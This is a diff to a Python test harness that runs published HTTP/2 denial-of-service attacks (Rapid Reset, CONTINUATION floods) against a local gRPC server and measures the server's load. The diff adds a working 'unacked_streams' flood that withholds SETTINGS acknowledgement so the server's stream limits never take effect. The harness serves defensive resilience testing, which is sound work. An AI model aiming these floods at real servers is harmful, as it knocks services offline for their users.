@@ -1,5 +1,5 @@
 #!/usr/bin/python3
-"""h2_attacks: two published HTTP/2 denial-of-service attacks, bounded, against a
+"""h2_attacks: published HTTP/2 denial-of-service attacks, bounded, against a
 reco_server on 127.0.0.1, with the server's cost measured while they run.
 
     h2_attacks.py --port PORT --pid PID --attack ATTACK [--seconds 3] [--proto_dir DIR]
@@ -8,6 +8,11 @@ ATTACK is one of
   rapid_reset   CVE-2023-44487: on one connection, streams opened with HEADERS and a
                 valid gRPC DATA frame (a 5-item request), each reset at once with
                 RST_STREAM(CANCEL), as fast as the socket takes them.
+  unacked_streams
+                the same attack's other half: the server's SETTINGS never
+                acknowledged, streams opened with HEADERS alone and held open until
+                --seconds is up (SETTINGS_MAX_CONCURRENT_STREAMS binds a client only
+                once acknowledged; gRPC 1.51 waits for that before it refuses any).
   continuation  CVE-2023-33953 style: one HEADERS frame without END_HEADERS, then
                 CONTINUATION frames without end, each full of complete small headers
                 (a header list that never ends).
@@ -98,11 +103,13 @@ def grpc_message(message):
 
 
 class RawConnection:
-    """One h2c connection: a reader thread answers SETTINGS and PING, returns flow-control
-    credit for what the server sends, tracks the send window the server grants, and counts
-    what came back (GOAWAY, RST_STREAM, HEADERS, EOF)."""
+    """One h2c connection: a reader thread answers SETTINGS (unless ack_settings is
+    False) and PING, returns flow-control credit for what the server sends, tracks the
+    send window the server grants, and counts what came back (GOAWAY, RST_STREAM,
+    HEADERS, EOF)."""
 
-    def __init__(self, port):
+    def __init__(self, port, ack_settings=True):
+        self.ack_settings = ack_settings
         self.sock = socket.create_connection((HOST, port), timeout=5)
         self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         self.lock = threading.Lock()  # one writer at a time
@@ -173,7 +180,8 @@ class RawConnection:
                     payload, buf = buf[9:9 + length], buf[9 + length:]
                     if kind == SETTINGS and not flags & ACK:
                         self.counts["settings"] += 1
-                        replies += frame(SETTINGS, ACK, 0)
+                        if self.ack_settings:
+                            replies += frame(SETTINGS, ACK, 0)
                     elif kind == PING and not flags & ACK:
                         self.counts["ping"] += 1
                         replies += frame(PING, ACK, 0, payload)
@@ -241,6 +249,13 @@ class RawConnection:
         with self.cv:
             self.closed_by_us = True
         try:
+            # shutdown first: close() alone leaves the connection open while the reader
+            # thread is blocked in recv() (Linux keeps the socket until that returns),
+            # so the server would go on holding what it took until this process exits.
+            self.sock.shutdown(socket.SHUT_RDWR)
+        except OSError:
+            pass
+        try:
             self.sock.close()
         except OSError:
             pass
@@ -285,6 +300,37 @@ def rapid_reset(port, seconds, max_streams):
     c.close()
     out = {"streams_sent": streams, "bytes_sent": written, "streams_per_s": streams / elapsed if elapsed else 0,
            "send_window_stalls": window_stalls, "attack_seconds": elapsed}
+    out.update(c.report())
+    return out
+
+
+def unacked_streams(port, seconds, max_streams):
+    """Never acknowledges the server's SETTINGS, and opens streams with HEADERS alone (a
+    request whose message never comes), 256 per write, then holds them open until the
+    time is up. SETTINGS_MAX_CONCURRENT_STREAMS binds a client only once it has
+    acknowledged it; a server that waits for the acknowledgement before enforcing its
+    limit lets every stream in (grpc/grpc#34638 made chttp2 refuse them, after 1.51)."""
+    c = RawConnection(port, ack_settings=False)
+    block = request_headers_block()
+    streams, sid, written = 0, 1, 0
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline and streams < max_streams and c.closed_at is None:
+        n = min(256, max_streams - streams)
+        out = b"".join(frame(HEADERS, END_HEADERS, sid + 2 * i, block) for i in range(n))
+        got = c.write_some(out, deadline)
+        written += got
+        if got < len(out):
+            break
+        streams += n
+        sid += 2 * n
+    opened = time.monotonic() - (deadline - seconds)
+    with c.cv:  # held open: the server keeps what it took for each stream meanwhile
+        while c.closed_at is None and time.monotonic() < deadline:
+            c.cv.wait(0.05)
+    elapsed = min(time.monotonic() - (deadline - seconds), seconds + 5)
+    c.close()
+    out = {"streams_sent": streams, "bytes_sent": written, "streams_per_s": streams / opened if opened else 0,
+           "attack_seconds": elapsed}
     out.update(c.report())
     return out
 
@@ -363,7 +409,8 @@ def main():
     p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
     p.add_argument("--port", type=int, required=True)
     p.add_argument("--pid", type=int, required=True, help="the server's pid, for /proc")
-    p.add_argument("--attack", required=True, choices=["rapid_reset", "continuation", "small_continuations", "endless_value"])
+    p.add_argument("--attack", required=True, choices=["rapid_reset", "unacked_streams", "continuation", "small_continuations",
+                                                       "endless_value"])
     p.add_argument("--seconds", type=float, default=3.0)
     p.add_argument("--max_streams", type=int, default=10_000_000)
     p.add_argument("--max_bytes", type=int, default=8 << 30)
@@ -396,8 +443,8 @@ def main():
     sampler.thread.start()
     prober.thread.start()
     t0 = time.monotonic()
-    if a.attack == "rapid_reset":
-        one = rapid_reset
+    if a.attack in ("rapid_reset", "unacked_streams"):
+        one = rapid_reset if a.attack == "rapid_reset" else unacked_streams
         limit_key, limit = "streams_sent", a.max_streams
     else:
         def one(port, seconds, max_bytes):
